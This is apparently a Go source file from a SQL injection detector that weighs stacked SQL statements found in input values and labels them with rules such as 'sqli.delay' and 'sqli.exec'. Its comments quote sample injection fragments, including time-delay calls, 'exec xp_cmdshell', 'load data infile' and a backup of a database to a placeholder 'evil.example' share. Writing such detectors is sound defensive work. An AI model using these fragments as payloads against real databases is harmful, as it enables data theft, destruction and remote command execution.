package inspect

// Statements that a value may put after the one it stands in. Each shape holds
// as much grammar as a sentence with the same words lacks.

// statement weighs the statement that begins with t, and takes what it read of
// it; 0 is none.
func (l *sqlLexer) statement(t *sqlToken) (n int, rule string) {
	save := l.i
	u := l.past()
	if t.call != 0 {
		l.i = save
		if t.call >= callUseful {
			return 3, "sqli.function"
		}
		return 1, "sqli.statement"
	}
	rule = "sqli.statement"
	switch t.word {
	case "drop", "create", "alter", "truncate":
		n = l.definition(u)
	case "delete":
		n = l.deletion(u)
	case "insert":
		n = l.insertion(u)
	case "update":
		n = l.update(u)
	case "waitfor": // waitfor delay '0:0:5'; no one else writes it
		if u.word == "delay" || u.word == "time" {
			n, rule = 5, "sqli.delay"
		}
	case "exec", "execute":
		n, rule = l.execution(u), "sqli.exec"
	case "declare": // declare @q varchar(99); "she declared @bob the winner" has another form
		if u.kind == tVar {
			n, rule = 5, "sqli.declare"
		}
	case "begin": // begin dbms_lock.sleep(5); "begin with the end"
		if u.call >= callUseful || u.kind == tStatement || u.system {
			l.i = u.start
			n = 3
		}
	case "backup": // backup database x to disk='\\evil.example\x'; "back up the database"
		if u.word == "database" && sqlName(l.past()) {
			n = 5
		}
	case "grant":
		n = l.grant(u)
	case "set": // set @x = …; "set a; set b"
		if u.kind == tVar {
			n = 4
		}
	case "shutdown": // shutdown with nowait; weighs only after a semicolon: "shutdown; restart"
		if u.kind == tComment || u.kind == tSemi || u.kind == tEnd || u.end-u.start == 4 && l.v[u.start]|32 == 'w' {
			l.i = u.start
			n = 2
		}
	case "load": // load data infile; "load data from the file"
		if u.word == "data" {
			if w := l.past(); w.word == "infile" || w.word == "local" {
				n, rule = 5, "sqli.file"
			}
		}
	case "if", "while": // if (1=1) waitfor …; the condition is weighed by what follows
		if u.kind == tOpen || u.kind == tNumber {
			n = 2
		}
	case "print": // print @@version; "print @a4"
		if u.system {
			n, rule = 5, "sqli.variable"
		}
	case "call", "use", "show", "kill", "open", "do", "lock", "replace": // do sleep(5); "do sleep well"
		if u.call >= callUseful || u.word == "case" {
			l.i = u.start
			n = 2
		}
	}
	if n == 0 {
		l.i = save
		return 0, ""
	}
	return n, rule
}

// sqlName reports whether t may name a table, a procedure or a column.
func sqlName(t sqlToken) bool { return t.kind == tWord || t.kind == tVar || t.kind == tString }

// definition: "drop table users", "create or replace view v". A sentence goes on
// behind the name: "drop table reservations today".
func (l *sqlLexer) definition(u sqlToken) int {
	for range 4 { // create or replace, drop … if exists
		if u.word != "or" && u.word != "replace" && !(u.kind == tStatement && u.word == "if") {
			break
		}
		u = l.past()
	}
	switch u.word {
	case "table", "database", "view", "index", "user", "procedure", "login", "function", "trigger":
	default:
		return 0
	}
	if w := l.past(); !sqlName(w) && w.word == "" {
		return 0
	}
	switch x := l.past(); {
	case x.kind == tWord && x.call == 0 && u.word != "function":
		return 2
	case x.kind != tEnd:
		if l.i = x.start; x.kind == tClause || x.kind == tFill || x.kind == tLogic {
			return 2
		}
	}
	return 4
}

// deletion: "delete from orders where", or nothing behind the name. "Delete from
// the list all names" goes on with words.
func (l *sqlLexer) deletion(u sqlToken) int {
	if u.word == "from" && sqlName(l.past()) {
		if x := l.past(); x.kind == tEnd || x.kind == tSemi || x.kind == tComment || x.word == "where" {
			l.i = x.start
			return 4
		}
	}
	return 0
}

// insertion: "insert into t(a)", "insert into t values", "insert into t select";
// "insert into the slot".
func (l *sqlLexer) insertion(u sqlToken) int {
	if u.word == "into" && sqlName(l.past()) {
		if x := l.past(); x.kind == tOpen || x.word == "values" || x.kind == tSelect {
			l.i = x.start
			return 4
		}
	}
	return 0
}

// update: "update users set admin=1"; "update the set of rules".
func (l *sqlLexer) update(u sqlToken) int {
	if sqlName(u) && u.word != "set" && l.past().word == "set" && sqlName(l.past()) {
		if y := l.past(); y.code == '=' {
			l.i = y.end
			return 4
		}
	}
	return 0
}

// execution: "exec xp_cmdshell", "exec ('…')", "exec p 'x'"; "exec summary".
func (l *sqlLexer) execution(u sqlToken) int {
	if u.system || u.kind == tOpen {
		return 5
	}
	if sqlName(u) {
		if x := l.past(); x.kind == tString || x.kind == tVar {
			return 4
		}
	}
	return 0
}

// grant: "grant connect to x;", "grant all on t to x;"; "grant access to the
// new user" lacks the end of a statement.
func (l *sqlLexer) grant(u sqlToken) int {
	w := l.past()
	if u.word == "connect" || w.word == "on" || w.kind == tOp || w.word == "to" {
		if sqlName(l.past()) {
			if y := l.past(); y.kind == tSemi {
				l.i = y.start
				return 5
			}
			return 3
		}
	}
	return 0
}
